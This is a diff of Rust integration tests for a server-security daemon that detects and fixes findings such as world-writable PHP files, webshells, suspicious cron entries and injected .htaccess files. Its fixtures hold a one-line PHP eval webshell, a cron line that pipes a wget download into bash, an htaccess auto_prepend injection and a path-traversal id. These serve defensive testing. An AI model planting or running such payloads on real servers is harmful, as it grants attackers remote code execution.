@@ -2,6 +2,7 @@
 //! actions, against the real daemon with the problems created on disk.
 
 use crate::common::*;
+use crate::firewall::post;
 
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
@@ -11,21 +12,33 @@ use serde_json::{json, Value};
 /// A daemon whose checks read `{dir}/fixture` (web root `{dir}/fixture/var/www`), without
 /// scheduled scans; `env` goes to the daemon.
 fn start(tag: &str, extra: &str, env: &[(&str, &str)]) -> (Daemon, PathBuf) {
+    start_in(temp_dir(tag), extra, env)
+}
+
+/// A daemon as [`start`] whose file watcher watches the web root (with `subdirs` made
+/// first), auto-quarantine off.
+fn start_watching(tag: &str, subdirs: &[&str]) -> (Daemon, PathBuf) {
     let dir = temp_dir(tag);
     let www = dir.join("fixture/var/www");
+    for s in subdirs {
+        std::fs::create_dir_all(www.join(s)).unwrap();
+    }
+    let extra = format!(
+        "[files]\nwatch = [{:?}]\n[auto_response]\nquarantine = false\n",
+        www.display().to_string()
+    );
+    start_in(dir, &extra, &[])
+}
+
+fn start_in(dir: PathBuf, extra: &str, env: &[(&str, &str)]) -> (Daemon, PathBuf) {
+    let www = dir.join("fixture/var/www");
     std::fs::create_dir_all(&www).unwrap();
-    let state = dir.join("state");
-    let config = dir.join("svc.toml");
-    std::fs::write(
-        &config,
-        format!(
-            "{}[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n{extra}",
-            base_config(&state),
-            root = dir.join("fixture").display().to_string(),
-        ),
-    )
-    .unwrap();
-    let d = Daemon::start_with(dir, config, state, env);
+    let root = dir.join("fixture").display().to_string();
+    let d = start_in_dir(
+        dir,
+        &format!("[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n{extra}"),
+        env,
+    );
     (d, www)
 }
 
@@ -34,22 +47,14 @@ fn restart(d: &mut Daemon, env: &[(&str, &str)]) -> Daemon {
     Daemon::start_with(d.dir.clone(), d.config.clone(), d.state.clone(), env)
 }
 
-fn post(d: &Daemon, path: &str, token: &str, body: &Value) -> Resp {
-    let auth = format!("Bearer {token}");
-    d.req(
-        "POST",
-        path,
-        &[
-            ("Authorization", &auth),
-            ("Content-Type", "application/json"),
-        ],
-        body.to_string().as_bytes(),
-    )
+/// An admin POST of `{"id": id}`.
+fn post_id(d: &Daemon, path: &str, id: &str) -> Resp {
+    post(d, path, ADMIN, json!({ "id": id }))
 }
 
 /// Queues a scan of `kind` and waits until it is done; returns the job.
 fn scan(d: &Daemon, kind: &str) -> Value {
-    let r = post(d, "/api/v1/scan-jobs", ADMIN, &json!({ "kind": kind }));
+    let r = post(d, "/api/v1/scan-jobs", ADMIN, json!({ "kind": kind }));
     r.expect(202);
     let v = r.json();
     assert_eq!(v["ok"], true);
@@ -59,16 +64,6 @@ fn scan(d: &Daemon, kind: &str) -> Value {
         let j = d.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
         (j["state"] == "done").then_some(j)
     })
-}
-
-fn findings(d: &Daemon, check: &str) -> Vec<Value> {
-    d.get("/api/v1/findings", READ).json()["items"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|f| f["check"] == check)
-        .cloned()
-        .collect()
 }
 
 fn write_mode(p: &Path, body: &[u8], mode: u32) {
@@ -93,7 +88,7 @@ fn findings_carry_stable_ids_in_every_route_and_the_event_stream() {
     events.read_head().expect(200);
     let job = scan(&d, "deep");
     assert!(job["findings"].as_i64().unwrap() >= 1, "{job}");
-    let listed = findings(&d, "world_writable_php");
+    let listed = findings_of(&d, "world_writable_php");
     assert_eq!(listed.len(), 1, "{listed:?}");
     let id = listed[0]["id"].as_str().unwrap().to_string();
     assert_eq!(id.len(), 16, "{id}");
@@ -121,11 +116,11 @@ fn findings_carry_stable_ids_in_every_route_and_the_event_stream() {
     drop(events);
     // A second scan merges into the same finding: same id.
     scan(&d, "deep");
-    assert_eq!(findings(&d, "world_writable_php")[0]["id"], id.as_str());
+    assert_eq!(findings_of(&d, "world_writable_php")[0]["id"], id.as_str());
     // After a restart the restored active set names it the same.
     let d2 = restart(&mut d, &[]);
     let again = wait_until(30, "the finding after the restart", || {
-        findings(&d2, "world_writable_php").first().cloned()
+        findings_of(&d2, "world_writable_php").first().cloned()
     });
     assert_eq!(again["id"], id.as_str());
 }
@@ -141,14 +136,14 @@ fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
     let env = [("SVC_TEST_SCAN_PAUSE", pause_s.as_str())];
     let (mut d, _www) = start("remedy-jobs", "", &env);
     // Scopes and bad input.
-    post(&d, "/api/v1/scan-jobs", READ, &json!({"kind": "full"})).expect(403);
-    post(&d, "/api/v1/scan-jobs", ADMIN, &json!({"kind": "weekly"})).expect(400);
-    post(&d, "/api/v1/scan-jobs", ADMIN, &json!({})).expect(400);
+    post(&d, "/api/v1/scan-jobs", READ, json!({"kind": "full"})).expect(403);
+    post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "weekly"})).expect(400);
+    post(&d, "/api/v1/scan-jobs", ADMIN, json!({})).expect(400);
     d.get("/api/v1/scan-jobs/0", READ).expect(400);
     d.get("/api/v1/scan-jobs/007", READ).expect(400);
     d.get("/api/v1/scan-jobs/99999", READ).expect(404);
     // One job runs (held at its start), eight wait, the tenth is refused.
-    let first = post(&d, "/api/v1/scan-jobs", ADMIN, &json!({"kind": "critical"}));
+    let first = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "critical"}));
     first.expect(202);
     let first = first.json()["id"].as_i64().unwrap();
     wait_until(30, "the first job to run", || {
@@ -156,11 +151,11 @@ fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
     });
     let mut waiting = Vec::new();
     for _ in 0..8 {
-        let r = post(&d, "/api/v1/scan-jobs", ADMIN, &json!({"kind": "deep"}));
+        let r = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "deep"}));
         r.expect(202);
         waiting.push(r.json()["id"].as_i64().unwrap());
     }
-    let full = post(&d, "/api/v1/scan-jobs", ADMIN, &json!({"kind": "full"}));
+    let full = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "full"}));
     full.expect(429);
     assert_eq!(full.header("retry-after"), Some("30"));
     assert!(full.json()["error"].as_str().unwrap().contains("full"));
@@ -187,14 +182,14 @@ fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
         &d,
         &format!("/api/v1/scan-jobs/{w0}/cancel"),
         READ,
-        &json!({}),
+        json!({}),
     )
     .expect(403);
     let c = post(
         &d,
         &format!("/api/v1/scan-jobs/{w0}/cancel"),
         ADMIN,
-        &json!({}),
+        json!({}),
     );
     c.expect(200);
     assert_eq!(c.json()["was"], "queued");
@@ -202,14 +197,14 @@ fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
         &d,
         &format!("/api/v1/scan-jobs/{w0}/cancel"),
         ADMIN,
-        &json!({}),
+        json!({}),
     )
     .expect(409);
     let c = post(
         &d,
         &format!("/api/v1/scan-jobs/{first}/cancel"),
         ADMIN,
-        &json!({}),
+        json!({}),
     );
     c.expect(200);
     assert_eq!(c.json()["was"], "running");
@@ -250,7 +245,7 @@ fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
 /// the active set by a moment).
 fn gone(d: &Daemon, check: &str, id: &str) {
     wait_until(30, "the finding to leave the listing", || {
-        findings(d, check)
+        findings_of(d, check)
             .iter()
             .all(|f| f["id"] != id)
             .then_some(())
@@ -263,7 +258,7 @@ fn mode_of(p: &Path) -> u32 {
 
 fn id_of(d: &Daemon, check: &str, path: &Path) -> String {
     let shown = path.display().to_string();
-    findings(d, check)
+    findings_of(d, check)
         .iter()
         .find(|f| f["path"] == shown.as_str())
         .and_then(|f| f["id"].as_str().map(String::from))
@@ -307,32 +302,32 @@ fn fix_makes_writable_php_0644_and_refuses_files_changed_since_detection() {
     assert_eq!(e["fix_action"], "chmod", "{e}");
     assert!(e["fix_description"].as_str().unwrap().contains("0644"));
     // Scope, malformed and unknown ids, a finding without a fix.
-    post(&d, "/api/v1/fix", READ, &json!({ "id": id })).expect(403);
+    post(&d, "/api/v1/fix", READ, json!({ "id": id })).expect(403);
     post(
         &d,
         "/api/v1/fix",
         ADMIN,
-        &json!({ "id": "../../etc/passwd" }),
+        json!({ "id": "../../etc/passwd" }),
     )
     .expect(400);
     post(
         &d,
         "/api/v1/fix",
         ADMIN,
-        &json!({ "id": "0123456789abcdef" }),
+        json!({ "id": "0123456789abcdef" }),
     )
     .expect(404);
-    post(&d, "/api/v1/fix", ADMIN, &json!({})).expect(400);
-    let uid0 = findings(&d, "uid0_account");
+    post(&d, "/api/v1/fix", ADMIN, json!({})).expect(400);
+    let uid0 = findings_of(&d, "uid0_account");
     assert_eq!(uid0.len(), 1, "{uid0:?}");
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": uid0[0]["id"] }));
+    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": uid0[0]["id"] }));
     r.expect(400);
     assert!(r.json()["error"]
         .as_str()
         .unwrap()
         .contains("no automatic fix"));
     // The fix.
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": id }));
+    let r = post_id(&d, "/api/v1/fix", &id);
     r.expect(200);
     let v = r.json();
     assert_eq!(v["ok"], true);
@@ -347,12 +342,12 @@ fn fix_makes_writable_php_0644_and_refuses_files_changed_since_detection() {
         (1234, 1234)
     );
     gone(&d, "world_writable_php", &id);
-    post(&d, "/api/v1/fix", ADMIN, &json!({ "id": id })).expect(404);
+    post_id(&d, "/api/v1/fix", &id).expect(404);
     // A symlink swapped in between detection and fix.
     let swapped_id = id_of(&d, "world_writable_php", &swapped);
     std::fs::remove_file(&swapped).unwrap();
     std::os::unix::fs::symlink(&outside, &swapped).unwrap();
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": swapped_id }));
+    let r = post_id(&d, "/api/v1/fix", &swapped_id);
     r.expect(409);
     assert!(
         r.json()["error"].as_str().unwrap().contains("verify"),
@@ -367,27 +362,17 @@ fn fix_makes_writable_php_0644_and_refuses_files_changed_since_detection() {
     // A file written after the scan saw it.
     let edited_id = id_of(&d, "world_writable_php", &edited);
     std::fs::write(&edited, b"<?php echo 3;").unwrap();
-    post(&d, "/api/v1/fix", ADMIN, &json!({ "id": edited_id })).expect(409);
+    post_id(&d, "/api/v1/fix", &edited_id).expect(409);
     assert_eq!(mode_of(&edited), 0o666);
     // verify-finding: the swapped file no longer holds (resolved), the edited one does.
-    let v = post(
-        &d,
-        "/api/v1/verify-finding",
-        ADMIN,
-        &json!({ "id": swapped_id }),
-    );
+    let v = post_id(&d, "/api/v1/verify-finding", &swapped_id);
     v.expect(200);
     assert_eq!(v.json()["holds"], false);
     assert_eq!(v.json()["resolved"], true);
-    let v = post(
-        &d,
-        "/api/v1/verify-finding",
-        ADMIN,
-        &json!({ "id": edited_id }),
-    );
+    let v = post_id(&d, "/api/v1/verify-finding", &edited_id);
     assert_eq!(v.json()["holds"], true, "{}", v.text());
     // dismiss resolves without touching the file.
-    post(&d, "/api/v1/dismiss", ADMIN, &json!({ "id": edited_id })).expect(200);
+    post_id(&d, "/api/v1/dismiss", &edited_id).expect(200);
     gone(&d, "world_writable_php", &edited_id);
     assert_eq!(mode_of(&edited), 0o666);
     // Audited with the finding's id.
@@ -417,7 +402,7 @@ fn fix_bulk_fixes_a_thousand_files_and_lists_failures() {
     scan(&d, "deep");
     let one_id = id_of(&d, "world_writable_php", &one);
     let t = std::time::Instant::now();
-    post(&d, "/api/v1/fix", ADMIN, &json!({ "id": one_id })).expect(200);
+    post_id(&d, "/api/v1/fix", &one_id).expect(200);
     let single = t.elapsed();
     // A check reports 1,000 findings at most: exactly that many.
     for i in 0..1000 {
@@ -428,21 +413,21 @@ fn fix_bulk_fixes_a_thousand_files_and_lists_failures() {
         );
     }
     scan(&d, "deep");
-    let all = findings(&d, "world_writable_php");
+    let all = findings_of(&d, "world_writable_php");
     assert_eq!(all.len(), 1000);
-    post(&d, "/api/v1/fix-bulk", ADMIN, &json!({ "ids": [] })).expect(400);
+    post(&d, "/api/v1/fix-bulk", ADMIN, json!({ "ids": [] })).expect(400);
     post(
         &d,
         "/api/v1/fix-bulk",
         ADMIN,
-        &json!({ "ids": ["0123456789abcdef", "x/../y"] }),
+        json!({ "ids": ["0123456789abcdef", "x/../y"] }),
     )
     .expect(404);
     let mut ids: Vec<Value> = all.iter().map(|f| f["id"].clone()).collect();
     ids.push(json!("0123456789abcdef"));
     ids.push(json!(one_id));
     let t = std::time::Instant::now();
-    let r = post(&d, "/api/v1/fix-bulk", ADMIN, &json!({ "ids": ids }));
+    let r = post(&d, "/api/v1/fix-bulk", ADMIN, json!({ "ids": ids }));
     let bulk = t.elapsed();
     r.expect(200);
     let v = r.json();
@@ -457,7 +442,9 @@ fn fix_bulk_fixes_a_thousand_files_and_lists_failures() {
         );
     }
     wait_until(30, "the fixed findings to leave", || {
-        findings(&d, "world_writable_php").is_empty().then_some(())
+        findings_of(&d, "world_writable_php")
+            .is_empty()
+            .then_some(())
     });
     println!(
         "fix latency: one finding {:.1} ms, bulk of 1,000 findings {:.1} ms",
@@ -473,22 +460,8 @@ const WEBSHELL: &str = "<?php\n@eval($_POST['cmd']);\n?>\n";
 /// owner or became a symlink), and deleted by quarantine/bulk-delete.
 #[test]
 fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() {
-    let dir = temp_dir("remedy-shell");
-    let www = dir.join("www");
-    std::fs::create_dir_all(www.join("up")).unwrap();
-    let state = dir.join("state");
-    let config = dir.join("svc.toml");
-    std::fs::write(
-        &config,
-        format!(
-            "{}[files]\nwatch = [{www:?}]\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n[auto_response]\nquarantine = false\n",
-            base_config(&state),
-            www = www.display().to_string(),
-            root = dir.join("fixture").display().to_string(),
-        ),
-    )
-    .unwrap();
-    let d = Daemon::start_with(dir.clone(), config, state, &[]);
+    let (d, www) = start_watching("remedy-shell", &["up"]);
+    let dir = d.dir.clone();
     let shell = www.join("up/shell.php");
     let staging = dir.join("staging");
     std::fs::write(&staging, WEBSHELL).unwrap();
@@ -504,7 +477,7 @@ fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() 
             .cloned()
     });
     let id = f["id"].as_str().unwrap().to_string();
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": id }));
+    let r = post_id(&d, "/api/v1/fix", &id);
     r.expect(200);
     let v = r.json();
     assert_eq!(v["fixed"]["action"], "quarantine", "{v}");
@@ -517,27 +490,16 @@ fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() 
         .iter()
         .any(|e| e["id"] == qid.as_str() && e["original_path"] == shown.as_str()));
     // Restore: refused while the directory is owned by another user, then done.
-    post(
-        &d,
-        "/api/v1/quarantine-restore",
-        READ,
-        &json!({ "id": qid }),
-    )
-    .expect(403);
+    post(&d, "/api/v1/quarantine-restore", READ, json!({ "id": qid })).expect(403);
     post(
         &d,
         "/api/v1/quarantine-restore",
         ADMIN,
-        &json!({ "id": "nope" }),
+        json!({ "id": "nope" }),
     )
     .expect(404);
     std::os::unix::fs::chown(www.join("up"), Some(4321), Some(4321)).unwrap();
-    let r = post(
-        &d,
-        "/api/v1/quarantine-restore",
-        ADMIN,
-        &json!({ "id": qid }),
-    );
+    let r = post_id(&d, "/api/v1/quarantine-restore", &qid);
     r.expect(409);
     assert!(
         r.json()["error"]
@@ -554,47 +516,30 @@ fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() 
     std::fs::create_dir_all(&outside).unwrap();
     std::fs::rename(www.join("up"), dir.join("up-moved")).unwrap();
     std::os::unix::fs::symlink(&outside, www.join("up")).unwrap();
-    post(
-        &d,
-        "/api/v1/quarantine-restore",
-        ADMIN,
-        &json!({ "id": qid }),
-    )
-    .expect(409);
+    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(409);
     assert!(
         std::fs::read_dir(&outside).unwrap().next().is_none(),
         "nothing written outside"
     );
     std::fs::remove_file(www.join("up")).unwrap();
     std::fs::rename(dir.join("up-moved"), www.join("up")).unwrap();
-    let r = post(
-        &d,
-        "/api/v1/quarantine-restore",
-        ADMIN,
-        &json!({ "id": qid }),
-    );
+    let r = post_id(&d, "/api/v1/quarantine-restore", &qid);
     r.expect(200);
     assert_eq!(std::fs::read_to_string(&shell).unwrap(), WEBSHELL);
-    post(
-        &d,
-        "/api/v1/quarantine-restore",
-        ADMIN,
-        &json!({ "id": qid }),
-    )
-    .expect(409);
+    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(409);
     // Bulk delete: the restored entry goes, an unknown id is listed as a failure.
     post(
         &d,
         "/api/v1/quarantine/bulk-delete",
         ADMIN,
-        &json!({ "ids": [] }),
+        json!({ "ids": [] }),
     )
     .expect(400);
     let r = post(
         &d,
         "/api/v1/quarantine/bulk-delete",
         ADMIN,
-        &json!({ "ids": [qid, "nope"] }),
+        json!({ "ids": [qid, "nope"] }),
     );
     r.expect(200);
     assert_eq!(r.json()["failures"].as_array().unwrap().len(), 1);
@@ -608,7 +553,7 @@ fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() 
         &d,
         "/api/v1/quarantine/bulk-delete",
         ADMIN,
-        &json!({ "ids": ["nope"] }),
+        json!({ "ids": ["nope"] }),
     )
     .expect(404);
 }
@@ -629,12 +574,12 @@ fn prefs_are_kept_per_credential_and_kind() {
         json!({})
     );
     let saved = json!({ "filters": { "severity": ["CRITICAL"], "check": "webshell" }, "page": 50 });
-    post(&d, "/api/v1/prefs/user", ADMIN, &saved).expect(200);
+    post(&d, "/api/v1/prefs/user", ADMIN, saved.clone()).expect(200);
     post(
         &d,
         "/api/v1/prefs/views",
         ADMIN,
-        &json!({ "views": [{"name": "mine"}] }),
+        json!({ "views": [{"name": "mine"}] }),
     )
     .expect(200);
     assert_eq!(d.get("/api/v1/prefs/user", ADMIN).json(), saved);
@@ -647,7 +592,7 @@ fn prefs_are_kept_per_credential_and_kind() {
         d.get("/api/v1/prefs/user", READ).expect(200).json(),
         json!({})
     );
-    post(&d, "/api/v1/prefs/user", READ, &saved).expect(403);
+    post(&d, "/api/v1/prefs/user", READ, saved.clone()).expect(403);
     // A browser session logged in with the admin token sees the token's preferences.
     let (cookie, csrf) = login(&d, ADMIN);
     let c = format!("svc_auth={cookie}");
@@ -668,8 +613,8 @@ fn prefs_are_kept_per_credential_and_kind() {
     );
     // Limits.
     let big = json!({ "blob": "x".repeat(64 * 1024) });
-    post(&d, "/api/v1/prefs/user", ADMIN, &big).expect(413);
-    post(&d, "/api/v1/prefs/user", ADMIN, &json!([1, 2])).expect(400);
+    post(&d, "/api/v1/prefs/user", ADMIN, big).expect(413);
+    post(&d, "/api/v1/prefs/user", ADMIN, json!([1, 2])).expect(400);
     assert_eq!(
         d.get("/api/v1/prefs/user", ADMIN).json(),
         json!({ "page": 10 })
@@ -705,7 +650,7 @@ fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
         0o600,
     );
     scan(&d, "critical");
-    let cron = findings(&d, "suspicious_cron");
+    let cron = findings_of(&d, "suspicious_cron");
     let by_kind = |kind: &str, path: &Path| {
         cron.iter()
             .find(|f| {
@@ -718,7 +663,7 @@ fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
     let download = by_kind("download-and-execute", &tab);
     let base64 = by_kind("base64", &tab);
     let bob = by_kind("download-and-execute", &other);
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": download }));
+    let r = post_id(&d, "/api/v1/fix", &download);
     r.expect(200);
     let v = r.json();
     assert_eq!(v["fixed"]["action"], "remove_cron_lines", "{v}");
@@ -735,7 +680,7 @@ fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
     assert_eq!(backup["check"], "suspicious_cron");
     assert_eq!(backup["original_path"], tab.display().to_string().as_str());
     gone(&d, "suspicious_cron", &download);
-    assert!(findings(&d, "suspicious_cron")
+    assert!(findings_of(&d, "suspicious_cron")
         .iter()
         .any(|f| f["id"] == base64.as_str()));
     // bob's crontab swapped for a symlink to a file outside after detection: refused.
@@ -747,14 +692,14 @@ fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
     .unwrap();
     std::fs::remove_file(&other).unwrap();
     std::os::unix::fs::symlink(&target, &other).unwrap();
-    post(&d, "/api/v1/fix", ADMIN, &json!({ "id": bob })).expect(409);
+    post_id(&d, "/api/v1/fix", &bob).expect(409);
     assert_eq!(
         std::fs::read_to_string(&target).unwrap(),
         "* * * * * wget -qO- http://198.51.100.7/y | bash\n"
     );
     // A rescan after the fix: the removed kind stays gone.
     scan(&d, "critical");
-    assert!(findings(&d, "suspicious_cron")
+    assert!(findings_of(&d, "suspicious_cron")
         .iter()
         .all(|f| f["id"] != download.as_str()));
 }
@@ -764,22 +709,8 @@ fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
 /// GET /api/v1/quarantine.
 #[test]
 fn fix_cleans_an_injected_htaccess_and_lists_the_pre_clean_backup() {
-    let dir = temp_dir("remedy-ht");
-    let www = dir.join("www");
-    std::fs::create_dir_all(www.join("site")).unwrap();
-    let state = dir.join("state");
-    let config = dir.join("svc.toml");
-    std::fs::write(
-        &config,
-        format!(
-            "{}[files]\nwatch = [{www:?}]\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n[auto_response]\nquarantine = false\n",
-            base_config(&state),
-            www = www.display().to_string(),
-            root = dir.join("fixture").display().to_string(),
-        ),
-    )
-    .unwrap();
-    let d = Daemon::start_with(dir.clone(), config, state, &[]);
+    let (d, www) = start_watching("remedy-ht", &["site"]);
+    let dir = d.dir.clone();
     let ht = www.join("site/.htaccess");
     let injected = "RewriteEngine On\nphp_value auto_prepend_file /tmp/.cache.php\nAddHandler application/x-httpd-php .jpg\nRewriteRule ^old$ /new [R=301,L]\n";
     let staging = dir.join("staging");
@@ -794,7 +725,7 @@ fn fix_cleans_an_injected_htaccess_and_lists_the_pre_clean_backup() {
             .find(|f| f["check"] == "htaccess_injection" && f["path"] == shown.as_str())
             .cloned()
     });
-    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": f["id"] }));
+    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": f["id"] }));
     r.expect(200);
     let v = r.json();
     assert_eq!(v["fixed"]["action"], "clean_htaccess", "{v}");
@@ -860,7 +791,7 @@ fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
         &d,
         "/api/v1/settings/alerts",
         ADMIN,
-        &json!({ "max_per_hour": 0, "bogus": 1 }),
+        json!({ "max_per_hour": 0, "bogus": 1 }),
     );
     r.expect(400);
     let errors = r.json()["errors"].as_array().cloned().unwrap();
@@ -873,14 +804,14 @@ fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
         &d,
         "/api/v1/settings/alerts",
         ADMIN,
-        &json!({ "max_per_hour": "many" }),
+        json!({ "max_per_hour": "many" }),
     )
     .expect(400);
     post(
         &d,
         "/api/v1/settings/alerts",
         READ,
-        &json!({ "max_per_hour": 77 }),
+        json!({ "max_per_hour": 77 }),
     )
     .expect(403);
     assert!(!dropin.exists());
@@ -889,7 +820,7 @@ fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
         &d,
         "/api/v1/settings/alerts",
         ADMIN,
-        &json!({ "max_per_hour": 77 }),
+        json!({ "max_per_hour": 77 }),
     );
     r.expect(200);
     let v = r.json();
@@ -912,7 +843,7 @@ fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
         &d,
         "/api/v1/settings/webui.limits",
         ADMIN,
-        &json!({ "handshake_timeout_seconds": 12 }),
+        json!({ "handshake_timeout_seconds": 12 }),
     );
     r.expect(200);
     assert_eq!(
@@ -929,7 +860,7 @@ fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
     // The restart route: 202, then the same process runs again with a new token.
     let before = d2.get("/api/v1/status", READ).json()["started_at_token"].clone();
     let pid = d2.pid();
-    let r = post(&d2, "/api/v1/settings/restart", ADMIN, &json!({}));
+    let r = post(&d2, "/api/v1/settings/restart", ADMIN, json!({}));
     r.expect(202);
     assert_eq!(r.json()["ok"], true);
     let addr = wait_until(60, "the restarted daemon's listening line", || {
@@ -991,7 +922,7 @@ fn perf_fixes_empty_the_log_turn_display_errors_off_and_move_wp_cron() {
     std::fs::create_dir_all(&spool).unwrap();
     scan(&d, "deep");
     let one = |check: &str| {
-        let f = findings(&d, check);
+        let f = findings_of(&d, check);
         assert_eq!(f.len(), 1, "{check}: {f:?}");
         f[0]["id"].as_str().unwrap().to_string()
     };
@@ -1001,48 +932,25 @@ fn perf_fixes_empty_the_log_turn_display_errors_off_and_move_wp_cron() {
         one("perf_cms_cron"),
     );
     // Each route fixes its own kind only.
-    post(
-        &d,
-        "/api/v1/perf/fix-error-log",
-        ADMIN,
-        &json!({ "id": ini_id }),
-    )
-    .expect(400);
+    post_id(&d, "/api/v1/perf/fix-error-log", &ini_id).expect(400);
     post(
         &d,
         "/api/v1/perf/fix-cms-cron",
         READ,
-        &json!({ "id": wp_id }),
+        json!({ "id": wp_id }),
     )
     .expect(403);
-    post(
-        &d,
-        "/api/v1/perf/fix-error-log",
-        ADMIN,
-        &json!({ "id": log_id }),
-    )
-    .expect(200);
+    post_id(&d, "/api/v1/perf/fix-error-log", &log_id).expect(200);
     let meta = std::fs::metadata(&log).unwrap();
     assert_eq!(meta.len(), 0);
     assert_eq!(meta.permissions().mode() & 0o7777, 0o640);
     assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), owner);
-    post(
-        &d,
-        "/api/v1/perf/fix-display-errors",
-        ADMIN,
-        &json!({ "id": ini_id }),
-    )
-    .expect(200);
+    post_id(&d, "/api/v1/perf/fix-display-errors", &ini_id).expect(200);
     assert_eq!(
         std::fs::read_to_string(&ini).unwrap(),
         "memory_limit = 256M\ndisplay_errors = Off\n"
     );
-    let r = post(
-        &d,
-        "/api/v1/perf/fix-cms-cron",
-        ADMIN,
-        &json!({ "id": wp_id }),
-    );
+    let r = post_id(&d, "/api/v1/perf/fix-cms-cron", &wp_id);
     r.expect(200);
     let text = std::fs::read_to_string(&wp).unwrap();
     assert!(text.contains("DISABLE_WP_CRON"), "{text}");
@@ -1061,7 +969,7 @@ fn perf_fixes_empty_the_log_turn_display_errors_off_and_move_wp_cron() {
     // A rescan finds none of them again.
     scan(&d, "deep");
     for c in ["perf_error_log", "php_display_errors", "perf_cms_cron"] {
-        assert!(findings(&d, c).is_empty(), "{c}");
+        assert!(findings_of(&d, c).is_empty(), "{c}");
     }
 }
 
@@ -1094,7 +1002,7 @@ fn status_reports_the_automation_rollout_state() {
         &d2,
         "/api/v1/settings/auto_response",
         ADMIN,
-        &json!({ "quarantine": false }),
+        json!({ "quarantine": false }),
     )
     .expect(200);
     let changed = modes(&d2);
@@ -1122,7 +1030,7 @@ fn an_account_scan_covers_that_account_only() {
     let full = scan(&d, "deep");
     let latest = d.get("/api/v1/status", READ).json()["latest_scan"].clone();
     assert_eq!(latest, full["finished_at"]);
-    assert_eq!(findings(&d, "world_writable_php").len(), 2);
+    assert_eq!(findings_of(&d, "world_writable_php").len(), 2);
     std::fs::set_permissions(
         www.join("a/open.php"),
         std::fs::Permissions::from_mode(0o644),
@@ -1138,14 +1046,14 @@ fn an_account_scan_covers_that_account_only() {
         &d,
         "/api/v1/scan-jobs",
         ADMIN,
-        &json!({ "account": "nosuchuser" }),
+        json!({ "account": "nosuchuser" }),
     )
     .expect(404);
     let r = post(
         &d,
         "/api/v1/scan-jobs",
         ADMIN,
-        &json!({ "account": "daemon" }),
+        json!({ "account": "daemon" }),
     );
     r.expect(202);
     let id = r.json()["id"].as_i64().unwrap();
@@ -1158,7 +1066,7 @@ fn an_account_scan_covers_that_account_only() {
         (json!("account"), json!("daemon"))
     );
     let paths = wait_until(30, "a's old finding to be resolved", || {
-        let mut p: Vec<String> = findings(&d, "world_writable_php")
+        let mut p: Vec<String> = findings_of(&d, "world_writable_php")
             .iter()
             .map(|f| f["path"].as_str().unwrap().to_string())
             .collect();
